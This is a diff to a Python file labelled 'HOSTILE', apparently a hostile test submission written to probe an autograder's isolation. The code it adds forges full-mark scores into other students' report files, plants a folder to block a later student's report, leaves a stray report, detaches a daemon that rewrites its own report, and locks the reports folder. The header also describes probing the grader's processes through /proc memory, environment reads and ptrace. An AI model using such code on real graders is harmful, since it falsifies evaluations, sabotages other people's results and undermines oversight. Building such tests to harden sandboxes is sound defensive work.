@@ -1,7 +1,8 @@
-# HOSTILE: step goes for the grader's own processes, found as its ancestors (the zygote, the workers, the judge): may it signal them (signal 0 only), open their memory (/proc/<pid>/mem), read their environment, attach with ptrace; and it plants a folder where a later report goes and rewrites the reports already written; its values are correct.
+# HOSTILE: step goes for the grader's own processes, found as its ancestors (the zygote, the workers, the judge): may it signal them (signal 0 only), open their memory (/proc/<pid>/mem), read their environment, attach with ptrace; and for the reports in OUT/activations/ (found in the grader's command line): it plants a folder where a later report goes, rewrites the reports already written, leaves a stray one, makes the folder unwritable and leaves a daemon to rewrite its own report once written; its values are correct.
 import ctypes
 import os
 import signal
+import time
 
 import numpy as np
 
@@ -61,18 +62,67 @@ def _attack():
     for pid in graders:
         argv = _cmdline(pid)
         if b"--out" in argv and argv.index(b"--out") + 1 < len(argv):
-            out = argv[argv.index(b"--out") + 1].decode()
+            _attack_reports(os.path.join(argv[argv.index(b"--out") + 1].decode(), "activations"))
+            break
+
+
+def _forged(text):
+    """A report of full marks: the score line replaced, the rest kept (still a valid report)."""
+    lines = [("score: 36  # " + MARK) if line.startswith("score:") else line for line in text.splitlines()]
+    return "\n".join(lines) + "\n"
+
+
+def _attack_reports(folder):
+    """OUT/<assignment>/<student>.yaml: squat a later student's report (alice is graded last),
+    rewrite those already written, leave a stray one, lock the folder, and leave a daemon that
+    rewrites this submission's own report once the grader has written it."""
+    if not os.path.isdir(folder):
+        return
+    try:
+        os.makedirs(os.path.join(folder, "alice.yaml", "squatted"))
+        print("PLANTED a folder at activations/alice.yaml")
+    except OSError:
+        pass
+    for name in sorted(os.listdir(folder)):
+        path = os.path.join(folder, name)
+        if name.endswith(".yaml") and os.path.isfile(path):
             try:
-                os.makedirs(os.path.join(out, "alice.yaml"))
-                print("PLANTED a folder at alice.yaml")
+                with open(path) as handle:
+                    text = handle.read()
+                with open(path, "w") as handle:
+                    handle.write(_forged(text))
+                print("REWROTE", name)
             except OSError:
                 pass
-            for name in os.listdir(out) if os.path.isdir(out) else []:
-                if name.endswith(".yaml") and os.path.isfile(os.path.join(out, name)):
-                    with open(os.path.join(out, name), "w") as handle:
-                        handle.write("score: 36  # " + MARK + "\n")
-                    print("REWROTE", name)
-            break
+    try:
+        with open(os.path.join(folder, f"zz-stray-{MARK}.yaml"), "w") as handle:
+            handle.write("score: 36\n")
+        print("LEFT a stray report")
+    except OSError:
+        pass
+    own = os.path.join(folder, "attacks_the_grader.yaml")
+    if os.fork() == 0:  # a daemon, in a session of its own, waits for its own report
+        try:
+            os.setsid()
+            if os.fork() == 0:
+                for _ in range(600):
+                    time.sleep(0.1)
+                    try:
+                        with open(own) as handle:
+                            text = handle.read()
+                        if MARK not in text:
+                            with open(own, "w") as handle:
+                                handle.write(_forged(text))
+                    except OSError:
+                        pass
+        finally:
+            os._exit(0)
+    print("DAEMON left to rewrite its own report")
+    try:
+        os.chmod(folder, 0o555)
+        print("LOCKED the reports folder")
+    except OSError:
+        pass
 
 
 def _once():
